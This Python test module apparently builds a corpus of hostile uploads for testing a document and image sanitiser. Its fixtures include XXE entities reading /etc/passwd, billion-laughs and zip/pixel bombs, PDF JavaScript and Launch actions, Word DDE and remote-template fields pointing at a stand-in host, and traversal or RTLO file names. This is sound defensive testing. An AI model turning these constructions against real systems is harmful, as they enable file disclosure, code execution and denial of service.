"""Files as an attacker, a careless office or a broken line would send them.

Each is a name, the bytes, and what must not be found in whatever is kept of it.
"""

import io
import random
import struct
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from typing import Any

import pikepdf
from pikepdf import Array, Dictionary, Name, Pdf, Stream, String
from PIL import Image
from PIL.PngImagePlugin import PngInfo

from tests.documents import (
    CANARY,
    OFFICE,
    W,
    action,
    annotate,
    content_types,
    docx,
    package,
    pdf,
    picture,
    relation,
    relations,
    xlsx,
)

EICAR = "X5O!P%@AP[4\\PZX54(P^)7CC)7}$" + "EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
SCRIPT = f"<script>alert('{CANARY}')</script>"
PROGRAM = f"app.alert('{CANARY}')"
XMP = (
    "<x:xmpmeta xmlns:x='adobe:ns:meta/'><rdf:RDF "
    "xmlns:rdf='http://www.w3.org/1999/02/22-rdf-syntax-ns#'><rdf:Description rdf:about='' "
    f"xmlns:pdf='http://ns.adobe.com/pdf/1.3/' pdf:Producer='{CANARY}'/></rdf:RDF></x:xmpmeta>"
)
LAUGHS = (
    '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "ha">'
    + "".join(f'<!ENTITY a{n} "{"&a;" if n == 1 else f"&a{n - 1};" * 10}">' for n in range(1, 12))
    + "]><x>&a11;</x>"
)
XXE = '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>'


@dataclass(frozen=True)
class Hostile:
    """A hostile file; `canary` is what must be gone when it is not refused."""

    what: str
    name: str
    made: bytes | Callable[[], bytes]
    canary: bytes = CANARY.encode()

    @property
    def content(self) -> bytes:
        return self.made if isinstance(self.made, bytes) else self.made()


def corpus() -> list[Hostile]:
    """All of them, made anew."""
    return [*_outsides(), *_names(), *_pictures(), *_pdfs(), *_packages(), *_words(), *_sheets()]


def mutated(content: bytes, chance: random.Random) -> bytes:
    """The file with some bytes changed, cut, doubled or moved."""
    changed = bytearray(content)
    for _time in range(chance.choice([1, 1, 2, 8])):
        place = chance.randrange(len(changed))
        length = chance.choice([1, 1, 2, 4, 64])
        other = chance.randrange(len(changed))
        what = chance.randrange(5)
        if what == 0:
            changed[place : place + length] = chance.randbytes(length)
        elif what == 1:
            del changed[place : place + length]
        elif what == 2:
            changed[place:place] = changed[other : other + length]
        elif what == 3:
            changed[place] ^= 1 << chance.randrange(8)
        else:
            changed[place : place + length] = b"\xff" * length
        changed = changed or bytearray(b"\0")
    return bytes(changed)


def _outsides() -> list[Hostile]:
    plain = pdf()
    archive = package({"a.txt": CANARY})
    commented = io.BytesIO()
    with zipfile.ZipFile(commented, "w") as made:
        made.writestr("a.txt", CANARY)
        made.comment = b"\n%%EOF\n"
    return [
        Hostile("empty", "a.pdf", b""),
        Hostile("one byte", "a.pdf", b"%"),
        Hostile("only a head", "a.pdf", b"%PDF-1.7\n"),
        Hostile(
            "too large", "a.pdf", lambda: pdf(lambda d: _info(d)) + b"\n" * 6_000_000 + b"%%EOF"
        ),
        Hostile("truncated pdf", "a.pdf", plain[: len(plain) // 2]),
        Hostile("pdf without its table", "a.pdf", plain.replace(b"startxref", b"startyref")),
        Hostile("gif renamed", "a.png", b"GIF89a" + CANARY.encode() + b"\0" * 50),
        Hostile("gif", "a.gif", b"GIF89a" + CANARY.encode() + b"\0" * 50),
        Hostile("program renamed", "a.pdf", b"MZ" + CANARY.encode() + b"\0" * 50),
        Hostile("elf renamed", "a.docx", b"\x7fELF" + CANARY.encode() + b"\0" * 50),
        Hostile("html renamed", "a.pdf", f"<html>{SCRIPT}</html>".encode()),
        Hostile("html", "a.html", f"<html>{SCRIPT}</html>".encode()),
        Hostile("svg", "a.svg", f"<svg>{SCRIPT}</svg>".encode()),
        Hostile("svg renamed", "a.png", f"<svg>{SCRIPT}</svg>".encode()),
        Hostile("mhtml renamed", "a.docx", f"MIME-Version: 1.0\n\n{SCRIPT}".encode()),
        Hostile("shell script renamed", "a.pdf", f"#!/bin/sh\n{CANARY}".encode()),
        Hostile("eicar bare", "a.pdf", EICAR.encode(), EICAR.encode()),
        Hostile("eicar as text", "eicar.com", EICAR.encode(), EICAR.encode()),
        Hostile("zip renamed pdf", "a.pdf", archive),
        Hostile("zip renamed docx", "a.docx", archive),
        Hostile("pdf then zip", "a.pdf", plain + archive),
        Hostile("pdf with a zip that ends as pdf", "a.pdf", plain + commented.getvalue()),
        Hostile("zip then pdf", "a.pdf", archive + plain),
        Hostile("pdf then html", "a.pdf", plain + SCRIPT.encode()),
        Hostile("html in the head of a pdf", "a.pdf", b"%PDF-1.7\n" + SCRIPT.encode() + plain[9:]),
        Hostile("pdf after a blank line", "a.pdf", b"\n" + SCRIPT.encode() + plain),
        Hostile("pdf called jpeg", "a.jpg", pdf(lambda d: _info(d))),
        Hostile("docx called xlsx", "a.xlsx", docx(body=CANARY)),
        Hostile("old word", "a.doc", bytes.fromhex("d0cf11e0a1b11ae1") + CANARY.encode() * 50),
        Hostile("old word renamed", "a.docx", bytes.fromhex("d0cf11e0a1b11ae1") + b"\0" * 600),
    ]


def _names() -> list[Hostile]:
    plain = pdf(lambda d: _info(d))
    return [
        Hostile("no ending", "laporan", plain),
        Hostile("program after pdf", "laporan.pdf.exe", plain),
        Hostile("php before pdf", "laporan.php.pdf", plain),
        Hostile("NUL in the name", "laporan.php\0.pdf", plain),
        Hostile("traversal", "../../../../etc/laporan.pdf", plain),
        Hostile("traversal in Windows", "..\\..\\laporan.pdf", plain),
        Hostile("right-to-left override", "laporan\u202efdp.exe", plain),
        Hostile("right-to-left before pdf", "laporan\u202exe.pdf", plain),
        Hostile("zero width", "lapo\u200bran.pdf", plain),
        Hostile("300 letters", "a" * 300 + ".pdf", plain),
        Hostile("header injection", 'a"\r\nX-Jahat: 1.pdf', plain),
        Hostile("only an ending", ".pdf", plain),
        Hostile("surrogate", "a\udcff.pdf", plain),
    ]


def _info(document: Pdf) -> None:
    document.docinfo["/Author"] = CANARY


def _exif() -> Image.Exif:
    exif = Image.Exif()
    exif[0x010F] = CANARY
    exif.get_ifd(0x8825).update({1: "S", 2: (7.0, 47.0, 12.0), 0x1D: CANARY})
    return exif


def png_promising(width: int, height: int) -> bytes:
    """A PNG of a few bytes that says it is this large."""

    def chunk(kind: bytes, content: bytes) -> bytes:
        check = struct.pack("!I", zlib.crc32(kind + content))
        return struct.pack("!I", len(content)) + kind + content + check

    header = struct.pack("!IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", header)
        + chunk(b"IDAT", zlib.compress(b"\0" * 1000))
        + chunk(b"IEND", b"")
    )


def _pictures() -> list[Hostile]:
    jpeg, png, webp = picture("JPEG"), picture("PNG"), picture("WEBP")
    text = Image.open(io.BytesIO(png))
    described = io.BytesIO()
    note = PngInfo()
    note.add_text("Comment", CANARY)
    note.add_itxt("XML:com.adobe.xmp", CANARY)
    text.save(described, "PNG", pnginfo=note)
    return [
        Hostile("jpeg with place", "a.jpg", picture("JPEG", exif=_exif())),
        Hostile("png with place", "a.png", picture("PNG", exif=_exif())),
        Hostile("webp with place", "a.webp", picture("WEBP", exif=_exif())),
        Hostile("jpeg with xmp", "a.jpg", picture("JPEG", xmp=XMP.encode())),
        Hostile("jpeg with a comment", "a.jpg", picture("JPEG", comment=SCRIPT.encode())),
        Hostile("png with text", "a.png", described.getvalue()),
        Hostile("jpeg with a false profile", "a.jpg", picture(icc_profile=CANARY.encode() * 9)),
        Hostile("png of 50,000 x 50,000", "a.png", png_promising(50_000, 50_000)),
        Hostile("png of 7,000 x 7,000", "a.png", png_promising(7_000, 7_000)),
        Hostile("png of 14,000 x 14,000", "a.png", png_promising(14_000, 14_000)),
        Hostile("png of nothing", "a.png", png_promising(0, 0)),
        Hostile("png with too few rows", "a.png", png_promising(2_000, 2_000)),
        Hostile("jpeg cut", "a.jpg", jpeg[: len(jpeg) // 2]),
        Hostile("webp cut", "a.webp", webp[: len(webp) // 2]),
        Hostile("jpeg then zip", "a.jpg", jpeg + package({"a.txt": CANARY})),
        Hostile("jpeg then script", "a.jpg", jpeg + SCRIPT.encode()),
        Hostile("png then eicar", "a.png", png + EICAR.encode(), EICAR.encode()),
        Hostile("jpeg then eicar", "a.jpg", jpeg + EICAR.encode(), EICAR.encode()),
        Hostile("webp then eicar", "a.webp", webp + EICAR.encode(), EICAR.encode()),
        Hostile("png called jpg", "a.jpg", described.getvalue()),
        Hostile("riff that is no webp", "a.webp", b"RIFF\0\0\0\0WAVE" + CANARY.encode()),
    ]


def _pdfs() -> list[Hostile]:
    def changed(what: str, change: Callable[[Pdf], Any], **saved: Any) -> Hostile:
        return Hostile(what, "a.pdf", pdf(change, **saved))

    def link(**target: Any) -> Callable[[Pdf], None]:
        return lambda d: annotate(d, Subtype=Name.Link, A=action(**target))

    locked = pikepdf.Encryption(owner="pemilik", user="")
    secret = pikepdf.Encryption(owner="pemilik", user="sandi")
    return [
        changed("javascript at opening", lambda d: _root(d, OpenAction=_script())),
        changed("javascript as a stream", lambda d: _root(d, OpenAction=_streamed(d))),
        changed("javascript by name", lambda d: _named_script(d)),
        changed("javascript of a page", lambda d: _page(d, AA=Dictionary(O=_script()))),
        changed("javascript after a link", link(kind="GoTo", D=[0], Next=_script())),
        changed("launch", link(kind="Launch", F=String(CANARY))),
        changed("javascript address", link(kind="URI", URI=String(f"javascript:{PROGRAM}"))),
        changed("file address", link(kind="URI", URI=String(f"file:///{CANARY}"))),
        changed("smb document", link(kind="GoToR", F=String(f"\\\\jahat\\{CANARY}"), D=[0])),
        changed("form that sends", link(kind="SubmitForm", F=String(CANARY))),
        changed("file attached", lambda d: d.attachments.__setitem__("a.txt", CANARY.encode())),
        Hostile(
            "eicar attached",
            "a.pdf",
            pdf(lambda d: d.attachments.__setitem__("a.com", EICAR.encode())),
            EICAR.encode(),
        ),
        changed("file as a note", lambda d: _note_file(d)),
        changed("rich media", lambda d: annotate(d, Subtype=Name.RichMedia, T=String(CANARY))),
        changed("movie", lambda d: annotate(d, Subtype=Name.Movie, T=String(CANARY))),
        changed("xfa", lambda d: _root(d, AcroForm=Dictionary(XFA=String(CANARY), Fields=[]))),
        changed("form field that calculates", lambda d: _calculating(d)),
        changed("portfolio", lambda d: _root(d, Collection=Dictionary(T=String(CANARY)))),
        changed("author", _info),
        changed("xmp", lambda d: _root(d, Metadata=Stream(d, XMP.encode()))),
        changed("xmp under another name", lambda d: _root(d, Metadatb=_metadata(d))),
        changed("author under another name", lambda d: _trailer(d, "/Infp")),
        changed("rich media under another name", lambda d: _page(d, Annotz=Array([_media()]))),
        changed("note under another name", lambda d: _page(d, Annotz=Array([_note()]))),
        changed("thumbnail", lambda d: _page(d, Thumb=Stream(d, CANARY.encode()))),
        changed("portfolio under another name", lambda d: _root(d, Col=_text())),
        changed("action that no reader knows", link(kind="Lauch", F=String(CANARY))),
        changed("action of no kind", lambda d: annotate(d, Subtype=Name.Link, A=_text())),
        changed(
            "note that no reader knows", lambda d: annotate(d, Subtype=Name.Medib, T=String(CANARY))
        ),
        changed("photo with place", lambda d: _photo(d)),
        changed("locked for changes", _info, encryption=locked),
        changed("locked for reading", _info, encryption=secret),
        Hostile("looping page tree", "a.pdf", _loop()),
        Hostile("no pages", "a.pdf", _no_pages()),
        Hostile("deep nesting", "a.pdf", _deep()),
        Hostile("huge object stream", "a.pdf", _huge_stream),
        Hostile("many pages", "a.pdf", _many_pages),
        Hostile("hidden lock", "a.pdf", _hidden_lock()),
    ]


def _root(document: Pdf, **parts: Any) -> None:
    for key, value in parts.items():
        document.Root[f"/{key}"] = (
            document.make_indirect(value) if isinstance(value, Dictionary) else value
        )


def _metadata(document: Pdf) -> Stream:
    return Stream(document, XMP.encode(), Type=Name.Metadata, Subtype=Name.XML)


def _trailer(document: Pdf, name: str) -> None:
    document.trailer[name] = document.make_indirect(Dictionary(Author=String(CANARY)))


def _text() -> Dictionary:
    return Dictionary(T=String(CANARY))


def _note() -> Dictionary:
    return Dictionary(Type=Name.Annot, Subtype=Name.Medib, T=String(CANARY))


def _media() -> Dictionary:
    return Dictionary(Type=Name.Annot, Subtype=Name.RichMedia, T=String(CANARY))


def _page(document: Pdf, **parts: Any) -> None:
    for key, value in parts.items():
        document.pages[0].obj[f"/{key}"] = value


def _script() -> Dictionary:
    return action("JavaScript", JS=String(PROGRAM))


def _streamed(document: Pdf) -> Dictionary:
    return action("JavaScript", JS=Stream(document, PROGRAM.encode()))


def _named_script(document: Pdf) -> None:
    tree = Dictionary(Names=Array([String("mulai"), _script()]))
    _root(document, Names=Dictionary(JavaScript=tree))


def _note_file(document: Pdf) -> None:
    held = document.make_indirect(Stream(document, CANARY.encode()))
    annotate(
        document,
        Subtype=Name.FileAttachment,
        FS=Dictionary(Type=Name.Filespec, F=String("a.exe"), EF=Dictionary(F=held)),
    )


def _calculating(document: Pdf) -> None:
    field = Dictionary(FT=Name.Tx, T=String("nilai"), AA=Dictionary(C=_script()))
    _root(document, AcroForm=Dictionary(Fields=Array([document.make_indirect(field)])))


def _photo(document: Pdf) -> None:
    photo = Stream(document, picture("JPEG", exif=_exif()))
    photo.update(
        Dictionary(
            Type=Name.XObject,
            Subtype=Name.Image,
            Width=24,
            Height=16,
            ColorSpace=Name.DeviceRGB,
            BitsPerComponent=8,
            Filter=Name.DCTDecode,
        )
    )
    resources = document.pages[0].obj.Resources
    resources.XObject = Dictionary(Foto=document.make_indirect(photo))


def _raw(objects: list[str]) -> bytes:
    """A PDF written by hand, with a right table."""
    content, places = b"%PDF-1.7\n", []
    for number, body in enumerate(objects, 1):
        places.append(len(content))
        content += f"{number} 0 obj\n{body}\nendobj\n".encode()
    start = len(content)
    table = "".join(f"{place:010} 00000 n \n" for place in places)
    content += f"xref\n0 {len(objects) + 1}\n0000000000 65535 f \n{table}".encode()
    trailer = f"trailer <</Size {len(objects) + 1}/Root 1 0 R>>\nstartxref\n{start}\n%%EOF\n"
    return content + trailer.encode()


def _loop() -> bytes:
    return _raw(
        [
            "<</Type/Catalog/Pages 2 0 R>>",
            "<</Type/Pages/Count 2/Kids[3 0 R 2 0 R]>>",
            f"<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]/Jahat({CANARY})>>",
        ]
    )


def _no_pages() -> bytes:
    return _raw(
        [f"<</Type/Catalog/Pages 2 0 R/Jahat({CANARY})>>", "<</Type/Pages/Kids[]/Count 0>>"]
    )


def _deep() -> bytes:
    nested = "[" * 20_000 + f"({CANARY})" + "]" * 20_000
    return _raw(
        [
            "<</Type/Catalog/Pages 2 0 R>>",
            "<</Type/Pages/Count 1/Kids[3 0 R]>>",
            f"<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]/Jahat {nested}>>",
        ]
    )


def _huge_stream() -> bytes:
    """An object stream of a few kilobytes that unpacks to hundreds of megabytes."""
    packed = zlib.compressobj(9)
    script = f"<</JavaScript<</Names[(a)<</S/JavaScript/JS({CANARY})>>]>>>>"
    zeros = packed.compress(f"5 0 {script}".encode())
    zeros += b"".join(packed.compress(b" " * 1_000_000) for _ in range(250)) + packed.flush()
    catalog = b"1 0 obj\n<</Type/Catalog/Pages 2 0 R/Names 5 0 R>>\nendobj\n"
    pages = b"2 0 obj\n<</Type/Pages/Count 1/Kids[3 0 R]>>\nendobj\n"
    page = b"3 0 obj\n<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>\nendobj\n"
    content, places = b"%PDF-1.7\n", []
    for body in (catalog, pages, page):
        places.append(len(content))
        content += body
    places.append(len(content))
    head = f"4 0 obj\n<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length {len(zeros)}>>stream\n"
    content += head.encode() + zeros + b"\nendstream\nendobj\n"
    start = len(content)
    rows = [struct.pack("!BIB", 0, 0, 0)]
    rows += [struct.pack("!BIB", 1, place, 0) for place in places]
    rows += [struct.pack("!BIB", 2, 4, 0), struct.pack("!BIB", 1, start, 0)]
    table = b"".join(rows)
    head = f"6 0 obj\n<</Type/XRef/Size 7/W[1 4 1]/Root 1 0 R/Length {len(table)}>>stream\n"
    content += head.encode() + table + b"\nendstream\nendobj\n"
    return content + f"startxref\n{start}\n%%EOF\n".encode()


def _many_pages() -> bytes:
    document = Pdf.new()
    for _number in range(1_001):
        document.add_blank_page(page_size=(9, 9))
    _info(document)
    stream = io.BytesIO()
    document.save(stream)
    return stream.getvalue()


def _hidden_lock() -> bytes:
    """The word that says it is locked, spelt with an escape."""
    stream = pdf(
        _info,
        encryption=pikepdf.Encryption(owner="pemilik", user=""),
        object_stream_mode=pikepdf.ObjectStreamMode.disable,
    )
    return stream.replace(b"/Encrypt ", b"/#45ncrypt ")


def _packages() -> list[Hostile]:

    def blank(size: int) -> Callable[[], bytes]:
        return lambda: docx({"word/media/a.xml": "<a>" + " " * size + "</a>"})

    def crowd() -> bytes:
        return docx({f"word/media/{n}.xml": "<a/>" for n in range(2_500)})

    inner = package({"a.zip": package({"b.zip": package({"c.txt": CANARY})})})
    document = docx(body=f"<w:p><w:r><w:t>{CANARY}</w:t></w:r></w:p>")
    return [
        Hostile("bomb of 110 MB", "a.docx", blank(110_000_000)),
        Hostile("bomb by ratio", "a.docx", blank(20_000_000)),
        Hostile("2,500 parts", "a.docx", crowd),
        Hostile("zip within a document", "a.docx", docx({"word/media/a.zip": inner})),
        Hostile("program within a document", "a.docx", docx({"word/media/a.exe": CANARY})),
        Hostile("eicar within a document", "a.docx", docx({"eicar.com": EICAR})),
        Hostile("eicar within a workbook", "a.xlsx", xlsx({"xl/eicar.com": EICAR})),
        Hostile("part outside", "a.docx", docx({"../../etc/cron.d/a.xml": f"<a>{CANARY}</a>"})),
        Hostile("part at the root", "a.docx", docx({"/etc/a.xml": f"<a>{CANARY}</a>"})),
        Hostile("part in Windows", "a.docx", docx({"..\\a.xml": f"<a>{CANARY}</a>"})),
        Hostile("same part twice", "a.docx", docx({"WORD/document.xml": f"<a>{CANARY}</a>"})),
        Hostile("zip after a script", "a.docx", SCRIPT.encode() + document),
        Hostile("document cut", "a.docx", document[: len(document) // 2]),
        Hostile("other packing", "a.docx", _changed(document, 10, b"\x0c\0")),
        Hostile("locked part", "a.docx", _changed(document, 8, b"\x01\0")),
        Hostile("larger than promised", "a.docx", _changed(document, 24, struct.pack("<I", 1))),
        Hostile("both kinds", "a.docx", docx({"xl/workbook.xml": f"<a>{CANARY}</a>"})),
        Hostile("no kind", "a.docx", package({"[Content_Types].xml": f"<a>{CANARY}</a>"})),
    ]


def _changed(content: bytes, place: int, value: bytes) -> bytes:
    """Write `value` into every entry of the zip's directory."""
    parts = content.split(b"PK\x01\x02")
    place -= 4
    changed = [part[:place] + value + part[place + len(value) :] for part in parts[1:]]
    return b"PK\x01\x02".join([parts[0], *changed])


def _words() -> list[Hostile]:
    def word(what: str, **parts: Any) -> Hostile:
        return Hostile(what, "a.docx", docx(**parts))

    def outside(kind: str, target: str) -> str:
        return relation(kind, target, "External")

    macro = content_types(
        "word/document.xml", "application/vnd.ms-word.document.macroEnabled.main+xml"
    )
    settings = (
        f'<w:settings xmlns:w="{W}"><w:attachedTemplate w:id="r1"/><w:zoom w:percent="90"/>'
        "</w:settings>"
    )
    who = f'<w:comment w:author="{CANARY}" w:initials="{CANARY}"/>'
    comment = f'<w:comments xmlns:w="{W}">{who}</w:comments>'
    split = "</w:instrText></w:r><w:r><w:instrText>"
    field = f"<w:p><w:r><w:instrText>DD{split}EAUTO cmd {CANARY}</w:instrText></w:r></w:p>"
    simple = f'<w:fldSimple w:instr="DDE cmd {CANARY}"/>'
    fetched = f'<w:fldSimple w:instr="INCLUDETEXT http://jahat/{CANARY}"/>'
    changed = f'<w:ins w:author="{CANARY}"><w:r><w:t>tambahan</w:t></w:r></w:ins>'
    core = f"<cp:coreProperties xmlns:cp='a'><creator>{CANARY}</creator></cp:coreProperties>"
    photo = picture("JPEG", exif=_exif())
    svg = f"<svg xmlns='http://www.w3.org/2000/svg'>{SCRIPT}</svg>"
    return [
        word("macro", parts={"word/vbaProject.bin": CANARY}),
        word("macro by type", parts={"[Content_Types].xml": macro}, body=f"<a>{CANARY}</a>"),
        word("macro by relation", rels=relation("vbaProject", f"{CANARY}.xml")),
        word("remote template", rels=outside("attachedTemplate", f"https://jahat/{CANARY}")),
        word(
            "local template",
            parts={
                "word/settings.xml": settings,
                "word/_rels/settings.xml.rels": relations(
                    outside("attachedTemplate", f"file:///C:/Users/{CANARY}/Normal.dotm")
                ),
            },
        ),
        word("remote picture", rels=outside("image", f"https://jahat/{CANARY}.png")),
        word("ole object", parts={"word/embeddings/oleObject1.bin": CANARY}),
        word("ole by relation", rels=relation("oleObject", f"{CANARY}.xml")),
        word("html chunk", parts={"word/chunk.htm": SCRIPT}),
        word("chunk by relation", rels=relation("aFChunk", f"{CANARY}.xml")),
        word("active control", parts={"word/activeX/activeX1.xml": f"<a>{CANARY}</a>"}),
        word("field that runs, cut in two", body=field),
        word("simple field that runs", body=simple),
        word("field that fetches", body=fetched),
        word("billion laughs", parts={"word/footnotes.xml": LAUGHS}, body=CANARY),
        word("external entity", parts={"word/footnotes.xml": XXE}, body=CANARY),
        word("document type alone", parts={"word/a.xml": f"<!DOCTYPE a><a>{CANARY}</a>"}),
        word("entity in relations", parts={"word/_rels/document.xml.rels": XXE}, body=CANARY),
        word("utf-16 part", parts={"word/a.xml": f"<a>{CANARY}</a>".encode("utf-16")}),
        word(
            "utf-7 part",
            parts={"word/a.xml": f'<?xml version="1.0" encoding="utf-7"?><a>{CANARY}</a>'},
        ),
        word("part that is no xml", parts={"word/a.xml": f"<a>{CANARY}"}),
        word("link to a file", rels=outside("hyperlink", f"file:///{CANARY}")),
        word("link that runs", rels=outside("hyperlink", f"javascript:{CANARY}")),
        word("who wrote it", parts={"docProps/core.xml": core, "docProps/custom.xml": core}),
        word("hidden xml", parts={"customXml/item1.xml": f"<a>{CANARY}</a>"}),
        word("who commented", parts={"word/comments.xml": comment}),
        word("who changed", body=changed),
        word("photo with place in words", parts={"word/media/a.jpeg": photo}),
        word("picture that is none", parts={"word/media/a.png": CANARY}),
        word("pixel bomb", parts={"word/media/a.png": png_promising(50_000, 50_000) + b"RAHASIA"}),
        word("drawing with a script", parts={"word/media/a.svg": svg}),
    ]


def _sheets() -> list[Hostile]:
    def sheet(what: str, **parts: Any) -> Hostile:
        return Hostile(what, "a.xlsx", xlsx(**parts))

    macro = content_types("xl/workbook.xml", "application/vnd.ms-excel.sheet.macroEnabled.main+xml")
    person = (
        f'<personList xmlns="a"><person displayName="{CANARY}" userId="{CANARY}"/></personList>'
    )
    comments = f'<comments xmlns="a"><authors><author>{CANARY}</author></authors></comments>'
    linked = relations(relation("externalLinkPath", f"file:///{CANARY}.xlsx", "External"))
    place = f'<x15ac:absPath url="C:\\Users\\{CANARY}\\" xmlns:x15ac="b"/>'
    folder = f'<workbook xmlns="a">{place}</workbook>'
    return [
        sheet("workbook with a macro", parts={"xl/vbaProject.bin": CANARY}),
        sheet(
            "workbook with a macro by type", parts={"[Content_Types].xml": macro}, creator=CANARY
        ),
        sheet("macro sheet", parts={"xl/macrosheets/sheet1.xml": f"<a>{CANARY}</a>"}),
        sheet("other workbook", parts={"xl/externalLinks/externalLink1.xml": f"<a>{CANARY}</a>"}),
        sheet("other workbook by relation", parts={"xl/_rels/a.xml.rels": linked}),
        sheet("connection", parts={"xl/connections.xml": f"<a>{CANARY}</a>"}),
        sheet("query", parts={"xl/queryTables/queryTable1.xml": f"<a>{CANARY}</a>"}),
        sheet("embedded workbook", parts={"xl/embeddings/a.xlsx": xlsx(creator=CANARY)}),
        sheet("laughs in shared text", parts={"xl/sharedStrings.xml": LAUGHS}, creator=CANARY),
        sheet("entity in a sheet", parts={"xl/worksheets/sheet1.xml": XXE}, creator=CANARY),
        sheet("who saved", creator=CANARY),
        sheet("who is known", parts={"xl/persons/person.xml": person}),
        sheet("who commented on a cell", parts={"xl/comments1.xml": comments}),
        sheet("which folder", parts={"xl/workbook.xml": folder}),
        Hostile(
            "words called a workbook",
            "a.xlsx",
            xlsx({"[Content_Types].xml": content_types("xl/workbook.xml", f"{OFFICE}.{CANARY}")}),
        ),
    ]
